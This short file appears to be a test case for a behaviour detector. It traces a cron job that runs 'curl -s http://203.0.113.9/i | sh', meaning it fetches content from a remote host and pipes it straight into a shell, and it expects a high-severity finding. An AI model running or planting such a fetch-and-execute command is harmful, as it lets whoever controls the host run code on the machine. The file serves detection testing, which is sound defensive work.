# A job of cron pipes what it fetches into a shell.
cron is /usr/sbin/cron
cron fork sh
sh exec /bin/sh "/bin/sh -c curl -s http://203.0.113.9/i | sh"
sh fork curl
curl exec /usr/bin/curl "curl -s http://203.0.113.9/i"
curl connect tcp:10.0.0.1:40000>203.0.113.9:80
sh fork run
run exec /bin/sh "sh"
curl write pipe:1
run read pipe:1
expect high runs what it is handed from the network
